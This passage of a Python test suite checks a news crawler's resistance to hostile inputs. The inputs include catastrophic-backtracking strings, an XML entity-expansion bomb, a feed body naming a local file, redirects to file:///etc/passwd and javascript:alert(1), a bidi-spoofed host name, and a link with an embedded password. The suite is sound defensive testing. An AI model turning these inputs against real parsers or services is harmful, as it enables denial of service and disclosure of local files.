                await asyncio.sleep(0.05)
            return parse.result(), ticks, ex._pool is not None
        finally:
            ex.close()

    entries, ticks, workers_started = asyncio.run(main())
    assert workers_started == (kind != "dense")
    if kind == "big":
        assert len(entries) == 12_000
    assert entries[5 if kind == "big" else 0].url == "http://127.0.0.1:9/a/5.html"
    assert ticks > 3           # parsed on the loop, the loop would have turned once (the worker's start alone
                               # takes longer than 0.15 s)


def test_an_ordinary_list_page_is_read_without_starting_the_workers():
    """A quiet run reads its list pages and finds nothing new: the workers (~1 s of imports, their memory) are
    not started for an ordinary feed of 100 KB, read on the loop (~2 ms a KB)."""
    import asyncio

    from regwatch.crawler.run import Extractor
    from regwatch.service.config import SourceConfig

    ns = "".join(f' xmlns:n{i}="http://127.0.0.1:9/ns/{i}"' for i in range(6))      # content, dc, media …
    items = "".join(f"<item><title>第{i}条 {OLD}</title><link>http://127.0.0.1:9/a/{i}.html</link>"
                    f"<description>{OLD * 2}</description></item>" for i in range(300))
    body = f'<?xml version="1.0"?><rss version="2.0"{ns}><channel><title>t</title>{items}</channel></rss>'.encode()
    assert len(body) > 100 * 1024
    source = SourceConfig(name="calm", kind="feed", url="http://127.0.0.1:9/feed.xml")

    async def main():
        ex = Extractor(workers=1, timeout=60)
        try:
            return await ex.read_list(source, body, source.url, "application/rss+xml"), ex._pool, ex._starting
        finally:
            ex.close()

    entries, pool, starting = asyncio.run(main())
    assert len(entries) == 300 and pool is None and starting is None


def test_a_list_page_queued_behind_a_stuck_job_is_read_when_its_worker_is_stopped():
    """A job stuck past its limit in C code is ended by stopping its worker, and with it the pool: the jobs
    queued behind it (here a list page another source's feed needs a worker for) are tried again on a new pool,
    not lost to a cancellation."""
    import asyncio
    import time

    from regwatch.crawler.run import Extractor, WorkerLost
    from regwatch.service.config import SourceConfig

    body = _nested_namespaces(100).encode()
    source = SourceConfig(name="calm", kind="feed", url="http://127.0.0.1:9/feed.xml")

    async def main():
        # (a limit of 2 s, not less: the list page retried on the new pool has one turn of the limit for its
        # queueing, the round trip and its parse, which a loaded machine — the whole suite beside it — took over 0.7 s)
        ex = Extractor(workers=1, timeout=2.0)
        ex.GRACE = 0.2
        try:
            await ex._get_pool()
            stuck = asyncio.ensure_future(ex._run(time.sleep, 30))       # (time.sleep: not stopped by the limit)
            # two short jobs: the pool hands the first to its queue for the worker, the second waits for a place
            others = [asyncio.ensure_future(ex._run(time.sleep, 0.05)) for _ in range(2)]
            await asyncio.sleep(0.05)
            entries = await ex.read_list(source, body, source.url, "application/rss+xml")
            return entries, await asyncio.gather(stuck, *others, return_exceptions=True)
        finally:
            ex.close()

    entries, (stuck, *others) = asyncio.run(main())
    assert [e.url for e in entries] == ["http://127.0.0.1:9/a/5.html"]
    assert isinstance(stuck, WorkerLost) and "took longer than 2 s" in str(stuck)
    assert others == [None, None]


def test_no_page_can_pin_a_core(tmp_path, site, rw):
    """Inputs that made a pattern backtrack for hours (exponential or quadratic) are read at once."""
    site.pages["/a/c.html"] = article_page(art("c", "利率上限新规", GOOD))
    site.pages["/comments.xml"] = Page(b"<!---->" * 40 + links_feed(f"{site.url}/a/c.html").body, ctype="application/rss+xml")
    site.pages["/gate"] = Page(b"<html><body>please enable javascript" + b"<script>x" * 20_000)   # 180 KB
    site.pages["/jsonp"] = Page(b"cb()" + b" " * 300_000 + b"x", ctype="application/javascript")
    site.pages["/brackets"] = Page(b"<" * 2_000_000 + b'<ul><li><a href="/a/c.html">x</a></li></ul>', ctype="text/html")
    cfg = write_config(tmp_path, sources=[
        {"name": "comments", "kind": "feed", "url": f"{site.url}/comments.xml"},
        {"name": "gate", "kind": "listing", "url": f"{site.url}/gate", "links": "ul a"},
        {"name": "jsonp", "kind": "json", "url": f"{site.url}/jsonp", "items": "data", "link": "url"},
        {"name": "brackets", "kind": "listing", "url": f"{site.url}/brackets", "links": "ul a"}])
    r = rw("baseline", "-c", cfg, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    rows = {r["source"]: r for r in map(json.loads, rw("sources", "--json", "-c", cfg).stdout.splitlines())}
    assert rows["comments"]["state"] == "ok" and rows["comments"]["articles"] == 1
    assert rows["gate"]["state"] == "blocked"
    assert "not valid JSON" in rows["jsonp"]["last_error"]
    assert rows["brackets"]["found"] == 1

    # text that reaches story detection and extraction (titles, bodies, PDFs' text)
    code = ("from regwatch.pipeline.normalize import strip_boilerplate\n"
            "from regwatch.pipeline.stories import _strong_facts, clean_title\n"
            "from regwatch.pipeline.extract import pick_title\n"
            "import lxml.html\n"
            "strip_boilerplate('\\n' * 200_000); strip_boilerplate(' ' * 200_000 + 'x')\n"
            "clean_title(' ' * 200_000 + 'x')\n"
            "pick_title(lxml.html.fromstring('<html><head><title>' + ' \\t' * 100_000 + 'x</title></head></html>'))\n"
            "_strong_facts('1' * 200_000)\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]


def test_a_feed_prolog_of_blank_lines_is_read_at_once():
    """feedparser's DOCTYPE pattern (`^\\s*<!ENTITY` in MULTILINE mode) scanned every blank line from every line
    start of the prolog: 100 KB of line breaks before `<rss>` held the event loop 146 s (a feed under 256 KB was
    read on the loop then). Nor do declarations after the 64 KB that `check_xml` looks at cost more, or expand."""
    rss = '<rss version="2.0"><channel><item><title>&a9;x</title><link>http://127.0.0.1:9/a/1</link></item></channel></rss>'
    bomb = ('<!DOCTYPE rss [<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
            + "]>")
    code = ("from regwatch.crawler.kinds.feed import parse\n"
            "from regwatch.service.config import SourceConfig\n"
            "s = SourceConfig(name='f', kind='feed', url='http://127.0.0.1:9/feed.xml')\n"
            f"rss = {rss!r}.encode()\n"
            "far = b'<!--' + b'x' * 70_000 + b'-->'\n"
            "for body in (b'\\n' * 250_000 + rss, b'<?xml version=\"1.0\"?><!--' + b'\\r\\n' * 125_000 + b'-->' + rss,\n"
            "             far + b'\\n<!ENTITY' * 30_000 + rss, far + b'\\n<!DOCTYPE' * 30_000 + rss,\n"
            f"             far + b'\\n' + {bomb!r}.encode() + b'\\n' + rss):\n"
            "    entries = parse(body, s.url, s, 'application/rss+xml')\n"
            "    assert [e.url for e in entries] == ['http://127.0.0.1:9/a/1'], entries\n"
            "    assert 'lol' not in (entries[0].title or ''), entries[0].title\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr[-2000:]


def test_a_feed_body_that_names_a_local_file_is_not_read_from_disk(tmp_path):
    """feedparser opens a bytes argument as a file name first: a body `/path/to/file` must stay text."""
    from regwatch.crawler.kinds import ListError
    from regwatch.crawler.kinds.feed import parse
    from regwatch.service.config import SourceConfig

    local = tmp_path / "local.xml"
    local.write_text('<rss version="2.0"><channel><item><title>secret</title><link>http://127.0.0.1:9/s</link>'
                     '</item></channel></rss>', encoding="utf-8")
    source = SourceConfig(name="f", kind="feed", url="http://127.0.0.1:9/feed.xml")
    with pytest.raises(ListError):
        parse(str(local).encode(), source.url, source, "application/rss+xml")


def _endless_chunks(h):
    """A chunked body that never ends (no Content-Length to refuse it by)."""
    h.send_response(200)
    h.send_header("Content-Type", "text/html; charset=utf-8")
    h.send_header("Transfer-Encoding", "chunked")
    h.end_headers()
    chunk = b"<p>" + b"x" * 65536 + b"</p>"
    try:
        for _ in range(2000):
            h.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
    except OSError:
        return


def test_redirects_into_this_crawl_and_refused_redirects_say_what_happened(tmp_path, site, rw):
    """An article that redirects to a page this crawl already asked for is that page (skipped for good, not
    asked again); one that redirects into its own chain is a redirect loop; a redirect to another scheme, a body
    past max_size and a link whose host is not a host each say so, in one line naming the URL."""
    u = site.url
    site.pages["/a/c1.html"] = article_page(art("c1", "消费金融利率上限降至20%", GOOD, 5))
    site.pages["/r/c1"] = redirect(f"{u}/a/c1.html")         # a tracking link to a URL the feed lists too
    site.pages["/r/cl"] = redirect(f"{u}/r/cl")              # to itself
    site.pages["/r/cl2"] = redirect(f"{u}/r/cl3")
    site.pages["/r/cl3"] = redirect(f"{u}/r/cl2")
    for name, target in (("file", "file:///etc/passwd"), ("ftp", "ftp://127.0.0.1/x"), ("data", "data:text/html,hi"),
                         ("js", "javascript:alert(1)")):
        site.pages[f"/r/{name}"] = redirect(target)
    site.pages["/a/endless.html"] = Page(b"", raw=_endless_chunks)
    bidi = "http://exa\u202emple.com/a/x.html"
    site.pages["/feed.xml"] = links_feed(f"{u}/a/c1.html", f"{u}/r/c1", f"{u}/r/cl", f"{u}/r/cl2", f"{u}/r/file",
                                         f"{u}/r/ftp", f"{u}/r/data", f"{u}/r/js", f"{u}/a/endless.html", bidi)
    site.pages["/moved"] = redirect("file:///etc/passwd")
    cfg = write_config(tmp_path, name="rw.toml", crawl={"max_size": 300000}, sources=[
        feed_source(site, "canon"), {"name": "moved", "kind": "listing", "url": f"{u}/moved", "links": "ul a"}])
    for _ in range(2):
        r = rw("run", "--once", "-c", cfg)
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
    db = sqlite3.connect(tmp_path / "rw.db")
    message = db.execute("SELECT message FROM source_runs WHERE source = 'canon' ORDER BY id").fetchall()[0][0]
    assert "crawl stopped" not in message, message
    assert f"{u}/r/cl: redirect loop ({u}/r/cl → {u}/r/cl)" in message, message
    assert f"{u}/r/cl2: redirect loop ({u}/r/cl2 → {u}/r/cl3 → {u}/r/cl2)" in message, message
    for name, scheme in (("file", "file"), ("ftp", "ftp"), ("data", "data"), ("js", "javascript")):
        assert f"{u}/r/{name}: redirect to {scheme}: refused, regwatch fetches only http and https URLs" in message, message
    assert "HTTP 302" not in message and "Missing scheme" not in message, message
    assert f"{u}/a/endless.html: exceeded the size limit (max_size: 300000 bytes)" in message, message
    assert "DownloadCancelledError" not in message, message
    assert "refused, its host 'exa\\u202emple.com' is not a valid host name" in message, message
    assert "codec" not in message, message
    moved = db.execute("SELECT message FROM source_runs WHERE source = 'moved'").fetchone()[0]
    assert f"list page {u}/moved: redirect to file: refused" in moved, moved
    # the tracking link is the page it leads to: skipped for good, never asked again, no error
    reason = db.execute("SELECT reason FROM source_urls WHERE url = ? AND state = 'skipped'", (f"{u}/r/c1",)).fetchone()
    assert reason and reason[0] == f"redirects to {u}/a/c1.html, a page this crawl already asked for", reason
    assert len(site.requests("/r/c1")) == 1
    assert [a for (a,) in db.execute("SELECT url FROM articles")] == [f"{u}/a/c1.html"]


def test_errors_past_the_twentieth_are_counted_in_the_message():
    from regwatch.crawler.report import SourceReport

    report = SourceReport("s")
    for i in range(25):
        report.error(f"http://x/{i}: HTTP 500")
    assert report.errors == 25
    assert report.message.endswith("http://x/19: HTTP 500 (and 5 more)"), report.message


def test_a_link_with_a_password_is_refused_up_front_and_the_password_never_shown(tmp_path, site, rw):
    """`http://admin:hunter2@10.0.0.1/ui1` in a feed: the documented address refusal, the password nowhere."""
    from regwatch.pipeline.redact import redact
    assert redact("http://***@10.0.0.1/ui1: invalid hostname: admin:hunter2@10.0.0.1") == \
        "http://***@10.0.0.1/ui1: invalid hostname: ***@10.0.0.1"
    site.pages["/feed.xml"] = links_feed("http://admin:hunter2@10.0.0.1/ui1", "http://admin:hunter2@example.com/ui2")
    cfg = write_config(tmp_path, name="rw.toml", sources=[feed_source(site)])
    r = rw("run", "--once", "-c", cfg)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
    shown = rw("sources", "-c", cfg)
    db = sqlite3.connect(tmp_path / "rw.db")
    message = db.execute("SELECT message FROM source_runs WHERE source = 'feed'").fetchall()[0][0]
    last = db.execute("SELECT last_error FROM source_state WHERE source = 'feed'").fetchone()[0]
    for text in (message, last, r.stdout + r.stderr, shown.stdout + shown.stderr):
        assert "hunter2" not in text, text
    assert ("http://***@10.0.0.1/ui1: refused, 10.0.0.1 is a private address and not this source's own origin"
            in message), message
    assert "http://***@example.com/ui2: refused, a link with a user name or password in it" in message, message
    assert "invalid hostname" not in message, message


def _close_at_once(h):
    """A server that closes the connection without a word."""
    h.close_connection = True


def test_a_server_that_closes_the_connection_is_one_clear_line(tmp_path, site, rw):
    site.pages["/feed.xml"] = links_feed(f"{site.url}/a/closed.html")
    site.pages["/a/closed.html"] = Page(b"", raw=_close_at_once)
    cfg = write_config(tmp_path, name="rw.toml", sources=[feed_source(site)])
    r = rw("run", "--once", "-c", cfg)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
    db = sqlite3.connect(tmp_path / "rw.db")
    message = db.execute("SELECT message FROM source_runs WHERE source = 'feed'").fetchall()[0][0]
    assert f"{site.url}/a/closed.html: connection closed by the server before a response" in message, message
    assert "twisted" not in message and "Failure" not in message, message
